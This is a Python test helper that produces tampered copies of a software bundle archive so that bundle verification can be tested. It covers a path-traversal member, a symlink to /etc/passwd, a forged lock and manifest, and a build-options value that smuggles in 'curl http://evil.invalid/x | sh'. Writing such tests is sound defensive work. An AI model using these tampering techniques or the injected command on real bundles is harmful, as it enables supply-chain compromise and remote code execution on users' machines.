#!/usr/bin/env python3
"""Writes a tampered copy of a krnative bundle, the way an attacker would, for the bundle tests.

usage: tamper_bundle.py IN OUT MODE [FILE]
  alter-last     one byte changed in the last store member (the members before it are intact)
  unknown        an extra member the manifest does not list
  dotdot         an extra member named ../escape.txt
  symlink        the last store member replaced by a symlink of the same name to /etc/passwd
  replace-lock   FILE takes the last input's place: the lock and the manifest are rewritten to pin
                 it, consistently with each other, and the member is FILE's bytes
  duplicate-key  the manifest's lockSha256 written twice, the first time with the lock of zeros
  grow-last      FILE's bytes appended to the last store member, whose size the manifest no longer gives
  build-command  the manifest's build options (which import prints as a command) with more put after them
"""
import hashlib
import io
import json
import sys
import tarfile


def members(path):
    with tarfile.open(path) as archive:
        for info in archive.getmembers():
            data = archive.extractfile(info).read() if info.isfile() else b""
            yield info, data


def add(out, info, data):
    info.size = len(data)
    out.addfile(info, io.BytesIO(data) if info.isfile() else None)


def regular(name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mode = 0o644
    return info


def main():
    source, target, mode = sys.argv[1:4]
    items = list(members(source))
    last = max(i for i, (info, _) in enumerate(items) if info.name.startswith("sha256/"))
    if mode == "alter-last":
        info, data = items[last]
        middle = len(data) // 2
        items[last] = (info, data[:middle] + bytes([data[middle] ^ 0xFF]) + data[middle + 1:])
    elif mode == "unknown":
        items.append((regular("notes.txt", b"not in the manifest\n"), b"not in the manifest\n"))
    elif mode == "dotdot":
        items.append((regular("../escape.txt", b"outside\n"), b"outside\n"))
    elif mode == "symlink":
        info = tarfile.TarInfo(items[last][0].name)
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        items[last] = (info, b"")
    elif mode == "replace-lock":
        evil = open(sys.argv[4], "rb").read()
        evil_hex = hashlib.sha256(evil).hexdigest()
        old_hex = items[last][0].name[len("sha256/"):]
        manifest = json.loads(items[0][1])
        lock = json.loads(items[1][1])
        for entry in manifest["inputs"] + lock["inputs"]:
            if entry.get("sha256") == old_hex:
                entry["sha256"], entry["size"] = evil_hex, len(evil)
        lock_bytes = (json.dumps(lock, indent=2, sort_keys=True) + "\n").encode()
        manifest["lockSha256"] = hashlib.sha256(lock_bytes).hexdigest()
        items[0] = (items[0][0], json.dumps(manifest, indent=2, sort_keys=True).encode())
        items[1] = (items[1][0], lock_bytes)
        items[last] = (regular("sha256/" + evil_hex, evil), evil)
    elif mode == "duplicate-key":
        text = items[0][1].decode()
        items[0] = (items[0][0], text.replace("{", '{\n  "lockSha256" : "' + "0" * 64 + '",', 1).encode())
    elif mode == "build-command":
        manifest = json.loads(items[0][1])
        manifest["build"] = "--all --toolchain zig --runtime pbs --sandbox none; curl http://evil.invalid/x | sh"
        items[0] = (items[0][0], json.dumps(manifest, indent=2, sort_keys=True).encode())
    elif mode == "grow-last":
        info, data = items[last]
        items[last] = (info, data + open(sys.argv[4], "rb").read())
        manifest = json.loads(items[0][1])
        for entry in manifest["inputs"]:
            if entry.get("sha256") == info.name[len("sha256/"):]:
                entry.pop("size", None)
        items[0] = (items[0][0], json.dumps(manifest, indent=2, sort_keys=True).encode())
    else:
        sys.exit(f"unknown mode {mode}")
    with tarfile.open(target, "w", format=tarfile.PAX_FORMAT) as out:
        for info, data in items:
            add(out, info, data)


if __name__ == "__main__":
    main()
